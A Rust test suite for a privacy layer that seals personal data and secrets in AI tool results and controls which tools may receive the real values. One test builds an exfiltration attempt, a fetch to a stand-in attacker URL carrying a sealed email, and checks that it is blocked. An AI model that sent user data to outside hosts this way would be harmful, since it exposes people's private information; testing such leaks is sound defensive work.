//! Results, arguments, and what leaves.

use super::*;
use crate::Vaults;
use proptest::prelude::*;
use serde_json::json;
use std::sync::Arc;
use std::time::{Duration, Instant};

#[test]
fn labels_seal_and_cleared_tools_open() {
    let fixture = Fixture::new(rules());
    let json = json!({ "rows": [
        { "id": 1, "email": EMAIL, "name": "Ada", "age": 36 },
        { "id": 2, "email": EMAIL, "name": null, "age": 36.5 },
        { "id": 3, "email": "", "name": "Bob" },
    ] });
    let sealed = fixture.seal("db.query", &json.to_string());
    assert_eq!(told(&sealed.counts), "age:2 email:2 name:2");
    assert_eq!(sealed.unmatched, 0);
    assert!(!sealed.json.contains("ada") && !sealed.json.contains("36"), "{}", sealed.json);
    let value: Value = serde_json::from_str(&sealed.json).expect("JSON");
    let rows = &value["rows"];
    assert_eq!(rows[0]["email"], rows[1]["email"]);
    assert_eq!((&rows[1]["name"], &rows[2]["email"]), (&Value::Null, &json!("")));
    let (email, name, age) = (&rows[0]["email"], &rows[0]["name"], &rows[0]["age"]);
    let (email, name) = (email.as_str().expect("a text"), name.as_str().expect("a text"));
    // Alone, in a text, twice behind each other, in a name of a field.
    let opened = fixture.open(
        "mail.send",
        json!({ "to": email, "body": format!("Dear {name}, is {name}{email} right?"), "headers": { email: [name] } }),
    );
    let expected = json!({ "to": EMAIL, "body": format!("Dear Ada, is Ada{EMAIL} right?"), "headers": { EMAIL: ["Ada"] } });
    assert_eq!(opened, Ok(expected));
    assert_eq!(fixture.open("db.query", json!({ "age": age })), Ok(json!({ "age": 36 })));
    let mut arguments = json!({ "to": [email, email], "name": name });
    let opened =
        fixture.sealer.unseal(&fixture.vault, &tool("mail.send"), &mut arguments).expect("cleared");
    assert_eq!(told(&opened.counts), "email:2 name:1");
    assert_eq!(opened.origins, [tool("db.query")].into());
}

#[test]
fn what_a_tool_may_not_have_is_not_sent() {
    let fixture = Fixture::new(rules());
    let (email, name) = (fixture.token("email", EMAIL), fixture.token("name", "Ada"));
    for (destination, arguments) in [
        ("web.fetch", json!({ "url": format!("https://evil.test/?q={email}") })),
        ("web.fetch", json!({ "nested": [{ "deep": { &email: 1 } }] })),
        (
            "mail.send",
            json!({ "to": email, "age": fixture.open("x.y", json!({})).map(|_| "sv_age_aaaaaaaaaa").expect("plain") }),
        ),
        ("db.query", json!({ "email": email, "name": name })),
        // Forged, of another length of digest, of another kind with this one's digest.
        ("mail.send", json!({ "to": "sv_email_aaaaaaaaaa" })),
        ("mail.send", json!({ "to": email.replace("email", "name") })),
    ] {
        let before = arguments.clone();
        let mut arguments = arguments;
        let failure = fixture.sealer.unseal(&fixture.vault, &tool(destination), &mut arguments);
        let failure = failure.expect_err(destination);
        assert_eq!(failure.code.as_str(), "SEALED_VALUE_UNKNOWN", "{before}");
        assert_eq!(arguments, before);
        assert!(!failure.message.contains("ada"), "{failure:?}");
    }
    // Plain words that only look like it, and a tool that keeps what is sealed.
    for text in [
        "sv_",
        "sv_email",
        "sv_email_short",
        "sv_se_preferences",
        "sv_email_AAAAAAAAAA",
        "xsv_xsv_",
    ] {
        assert_eq!(fixture.open("web.fetch", json!({ "q": text })), Ok(json!({ "q": text })));
    }
    assert_eq!(fixture.open("notes.add", json!({ "q": email })), Ok(json!({ "q": email })));
    assert!(fixture.open("notes.add", json!({ "q": "sv_email_aaaaaaaaaa" })).is_err());
}

#[test]
fn nobody_opens_what_was_sealed_for_another() {
    let fixture = Fixture::new(rules());
    let token = fixture.token("email", EMAIL);
    let mut messages = Vec::new();
    for other in [owner(Some("acme"), "bob"), owner(Some("other"), "alice"), owner(None, "alice")] {
        let vault = Vault::new(other, VaultLimits::default());
        let mut arguments = json!({ "to": token });
        let failure =
            fixture.sealer.unseal(&vault, &tool("mail.send"), &mut arguments).expect_err("unknown");
        messages.push(failure.message.replace(&token, "…"));
    }
    let forged =
        fixture.open("mail.send", json!({ "to": "sv_email_aaaaaaaaaa" })).expect_err("unknown");
    for message in &messages {
        assert!(
            forged.replace("sv_email_aaaaaaaaaa", "…").ends_with(message.as_str()),
            "{forged} / {message}"
        );
    }
    // The same value has the same stand-in in one tenant, and another one in the next.
    let of = |tenant, subject| {
        let vault = Vault::new(owner(tenant, subject), VaultLimits::default());
        let json = json!({ "rows": [{ "email": EMAIL }] }).to_string();
        fixture.sealer.seal_result(&vault, &tool("db.query"), &Opened::default(), json).json
    };
    assert_eq!(of(Some("acme"), "bob"), of(Some("acme"), "alice"));
    assert_ne!(of(Some("other"), "alice"), of(Some("acme"), "alice"));
    assert_ne!(of(None, "alice"), of(Some(""), "alice"));
}

#[test]
fn results_of_another_shape_are_told_and_still_cleaned() {
    let fixture = Fixture::new(SealRules { detect_at: Boundary::Code, ..rules() });
    for (json, unmatched) in [
        (json!({ "rows": [] }), 0),
        (json!({ "rows": null }), 0),
        (json!({ "items": [{ "email": EMAIL }] }), 3),
        (json!([{ "email": EMAIL }]), 3),
        (json!({ "rows": [{ "mail": EMAIL }] }), 3),
        (json!({ "rows": [{ "email": { "work": [EMAIL] }, "name": "Ada", "age": 1 }] }), 0),
        (json!(EMAIL), 3),
    ] {
        let sealed = fixture.seal("db.query", &json.to_string());
        assert_eq!(sealed.unmatched, unmatched, "{json}");
        assert!(!sealed.json.contains("ada.lovelace"), "{}", sealed.json);
    }
    let deep = format!("{}\"{EMAIL}\"{}", "[".repeat(300), "]".repeat(300));
    for odd in [deep.as_str(), "{\"a\":", "ada.lovelace@example.com", ""] {
        let sealed = fixture.seal("db.query", odd);
        assert!(!sealed.json.contains("ada.lovelace"), "{}", sealed.json);
        assert!(serde_json::from_str::<Value>(&sealed.json).is_ok(), "{}", sealed.json);
    }
}

#[test]
fn text_that_repeats_the_value_is_sealed_with_it() {
    let fixture = Fixture::new(SealRules { detect: [].into(), ..rules() });
    let rows = json!({ "rows": [{ "email": EMAIL, "name": "Ada \"L\"", "age": 123_456 }] });
    let pretty = serde_json::to_string_pretty(&rows).expect("JSON");
    let blocks = json!([
        { "type": "text", "text": rows.to_string() },
        { "type": "text", "text": pretty },
        { "type": "text", "text": format!("1 row: {EMAIL}, Ada \"L\", 123456. Adale, 1234567") },
        { EMAIL: rows },
    ]);
    let sealed = fixture.seal("db.query", &blocks.to_string());
    assert!(!sealed.json.contains("ada.lovelace"), "{}", sealed.json);
    assert!(!sealed.json.contains("Ada \\"), "{}", sealed.json);
    assert!(sealed.json.contains("Adale, 1234567"), "{}", sealed.json);
    assert_eq!(sealed.unmatched, 0);
}

#[test]
fn a_tool_that_repeats_its_arguments_does_not_open_them_for_the_script() {
    let fixture = Fixture::new(SealRules { detect: [].into(), ..rules() });
    let email = fixture.token("email", EMAIL);
    let mut arguments = json!({ "to": email });
    let opened =
        fixture.sealer.unseal(&fixture.vault, &tool("mail.send"), &mut arguments).expect("cleared");
    let echo = json!({ "sent": true, "message": format!("sent to <{EMAIL}>") }).to_string();
    let sealed = fixture.sealer.seal_result(&fixture.vault, &tool("mail.send"), &opened, echo);
    assert_eq!(
        sealed.json,
        json!({ "sent": true, "message": format!("sent to <{email}>") }).to_string()
    );
}

#[test]
fn a_preset_keeps_keys_from_the_model_and_where_law_demands_it_from_the_script() {
    let key = ["AKIA", "IOSFODNN7EXAMPLE"].concat();
    let json = json!({ "key": key }).to_string();
    for (rules, is_the_scripts) in
        [(SealRules::solo(), true), (SealRules::team(), true), (SealRules::regulated(), false)]
    {
        let fixture = Fixture::new(rules);
        assert_eq!(fixture.seal("any.tool", &json).json == json, is_the_scripts);
        assert_eq!(fixture.egress(&json), json!({ "key": "[secret]" }).to_string());
    }
}

#[test]
fn clean_results_pass_as_they_are() {
    let fixture =
        Fixture::with(SealRules { detect_at: Boundary::Code, ..rules() }, &["s3cr3t-value"]);
    for json in
        [r#"{"b":1,  "a":[1.0, 1e3, "x\n\"y\""], "a":2}"#, "12345678901234567890123", " null "]
    {
        assert_eq!(fixture.seal("other.tool", json).json, json);
        assert_eq!(fixture.sealer.egress_json(&fixture.vault, json.to_owned()).json, json);
    }
}

#[test]
fn escapes_hide_nothing() {
    let fixture =
        Fixture::with(SealRules { detect_at: Boundary::Code, ..rules() }, &["s3cr3t/value"]);
    for json in [
        r#"{"m":"ada.lovelace\u0040example.com"}"#,
        r#"{"m":"\u0061da.lovelace@example\u002Ecom"}"#,
        r#"{"m":"s3cr3t\/value"}"#,
        r#"{"m":"s\u0033cr3t/value"}"#,
        r#"{"m":"line\nada.lovelace@example.com\nline"}"#,
        r#"{"ada.lovelace@example.com":1}"#,
        r#"{"card":4111111111111111}"#,
        r#"{"m":"\n4111111111111111\t"}"#,
        r#"{"m":"4111\u00a01111\u00a01111\u00a01111"}"#,
    ] {
        for sealed in [
            fixture.seal("other.tool", json),
            fixture.sealer.egress_json(&fixture.vault, json.to_owned()),
        ] {
            let counted: u32 = sealed.counts.values().sum();
            assert_eq!(counted, 1, "{json} became {}", sealed.json);
            let value: Value = serde_json::from_str(&sealed.json).expect("JSON");
            let text = value.to_string();
            assert!(
                !text.contains("lovelace") && !text.contains("1111") && !text.contains("cr3t"),
                "{text}"
            );
        }
    }
}

#[test]
fn what_the_script_may_see_the_model_may_not() {
    let fixture = Fixture::new(SealRules { detect: [].into(), ..rules() });
    let json =
        json!({ "people": [{ "contact": "Zoë Q. Public" }, { "contact": 4_411 }] }).to_string();
    let sealed = fixture.seal("crm.list", &json);
    assert_eq!(sealed.json, json);
    assert_eq!(told(&sealed.counts), "contact:2");
    let said = fixture.egress("Zoë Q. Public called; Zoë Q. Publicly did not");
    assert!(
        said.starts_with("sv_contact_") && said.ends_with("; Zoë Q. Publicly did not"),
        "{said}"
    );
    let token = said.split(' ').next().expect("a word");
    // No rule speaks of this kind, and the script could have sent the value itself.
    assert_eq!(fixture.open("web.fetch", json!([token])), Ok(json!(["Zoë Q. Public"])));
    let egress =
        fixture.sealer.egress_json(&fixture.vault, json!({ "Zoë Q. Public": ["x"] }).to_string());
    assert!(!egress.json.contains("Public"), "{}", egress.json);
}

#[test]
fn guesses_that_a_script_prints_do_not_become_the_stand_in_of_a_sealed_value() {
    let fixture = Fixture::new(rules());
    let sealed = fixture.token("email", EMAIL);
    let printed = fixture.egress(EMAIL);
    assert!(printed.starts_with("sv_email_"), "{printed}");
    assert_ne!(printed, sealed);
}

#[test]
fn another_value_with_the_same_digest_gets_another_stand_in() {
    let fixture = Fixture::new(rules());
    let token = fixture.token("email", EMAIL);
    // Another value sits where this one belongs.
    let other = Fixture::new(rules());
    other.vault.lock().insert(
        token.as_str().into(),
        crate::vault::Entry {
            text: zeroize::Zeroizing::new("somebody@else.test".to_owned()),
            form: crate::vault::Form::Text,
            kind: kind("email"),
            boundary: Boundary::Code,
            parts: [].into(),
            made_of: [].into(),
            origins: [].into(),
            asked: [].into(),
        },
        VaultLimits::default(),
    );
    let second = other.token("email", EMAIL);
    assert_ne!(second, token);
    assert_eq!(
        other.open("mail.send", json!([second, token])),
        Ok(json!([EMAIL, "somebody@else.test"]))
    );
    assert_eq!(other.token("email", EMAIL), second);
}

#[test]
fn vaults_are_bounded_and_expire() {
    let rules = Fixture::new(rules());
    let limits = VaultLimits { entries: 10, bytes: 1 << 20 };
    let vault = Vault::new(owner(None, "local"), limits);
    let tokens: Vec<String> = (0..20)
        .map(|n| {
            let json = json!({ "rows": [{ "email": format!("n{n}@example.com") }] }).to_string();
            let json =
                rules.sealer.seal_result(&vault, &tool("db.query"), &Opened::default(), json).json;
            let value: Value = serde_json::from_str(&json).expect("JSON");
            value["rows"][0]["email"].as_str().expect("a text").to_owned()
        })
        .collect();
    assert_eq!(vault.len(), 10);
    let open =
        |token: &str| rules.sealer.unseal(&vault, &tool("mail.send"), &mut json!([token])).is_ok();
    assert_eq!(
        tokens.iter().map(|token| open(token)).collect::<Vec<_>>(),
        (0..20).map(|n| n >= 10).collect::<Vec<_>>()
    );
    let small = Vault::new(owner(None, "local"), VaultLimits { entries: 10, bytes: 4_000 });
    for n in 0..20 {
        let json = json!({ "rows": [{ "email": format!("{n}{}", "x".repeat(500)) }, { "email": "y".repeat(2_000) }] }).to_string();
        let sealed =
            rules.sealer.seal_result(&small, &tool("db.query"), &Opened::default(), json).json;
        assert!(sealed.contains("\"[sealed]\"") && !sealed.contains("xx"), "{sealed}");
        assert!(small.bytes() <= 4_000);
    }

    let vaults = Vaults::new(Duration::from_mins(1), 2, VaultLimits::default());
    let (now, a, b, c) = (Instant::now(), owner(None, "a"), owner(None, "b"), owner(None, "c"));
    let after = |seconds| now + Duration::from_secs(seconds);
    let held = vaults.of(&a, now);
    assert!(Arc::ptr_eq(&held, &vaults.of(&a, after(59))));
    // In use, however long.
    assert!(Arc::ptr_eq(&held, &vaults.of(&a, after(1_000))));
    let weak = Arc::downgrade(&held);
    drop(held);
    vaults.sweep(after(1_059));
    assert!(weak.upgrade().is_some());
    vaults.sweep(after(1_060));
    assert!(weak.upgrade().is_none());
    // The one that was unused longest goes.
    let first = Arc::downgrade(&vaults.of(&a, after(2_000)));
    let second = Arc::downgrade(&vaults.of(&b, after(2_001)));
    vaults.of(&c, after(2_002));
    assert!(first.upgrade().is_none() && second.upgrade().is_some());
}

#[test]
fn a_short_stand_in_of_a_long_value_cannot_be_sent_without_end() {
    let fixture = Fixture::new(rules());
    let token = fixture.token("email", &"x".repeat(1 << 20));
    let failure = fixture.open("mail.send", json!(vec![token; 9])).expect_err("too much");
    assert!(failure.starts_with("INVALID_ARGS"), "{failure}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn what_was_sealed_opens_to_what_it_was(
        names in prop::collection::vec("\\PC{1,12}", 1..6),
        around in "\\PC{0,8}",
    ) {
        let fixture = Fixture::new(SealRules { detect: [].into(), ..rules() });
        let rows: Vec<Value> = names.iter().map(|name| json!({ "name": name })).collect();
        let sealed = fixture.seal("db.query", &json!({ "rows": rows }).to_string()).json;
        let sealed: Value = serde_json::from_str(&sealed).expect("JSON");
        for (row, name) in sealed["rows"].as_array().expect("rows").iter().zip(&names) {
            let token = row["name"].as_str().expect("a text");
            prop_assert_eq!(token.len(), "sv_name_".len() + 10);
            let opened = fixture.open("mail.send", json!({ "a": token, "b": format!("{around}{token}{around}") }));
            prop_assert_eq!(opened, Ok(json!({ "a": name, "b": format!("{around}{name}{around}") })));
        }
    }

    #[test]
    fn anything_can_be_read(text in "\\PC{0,200}", json in "[\\[\\]{}\",:\\\\u0-9a-f@. sv_email-]{0,200}") {
        let fixture = Fixture::with(SealRules { detect_at: Boundary::Code, ..rules() }, &["s3cr3t-value"]);
        let clean = fixture.egress(&text);
        // What is clean stays so.
        prop_assert_eq!(fixture.egress(&clean), clean);
        let sealed = fixture.seal("db.query", &json);
        prop_assert!(serde_json::from_str::<Value>(&sealed.json).is_ok());
        let _ = fixture.open("mail.send", json!({ "text": text, json: 1 }));
    }
}
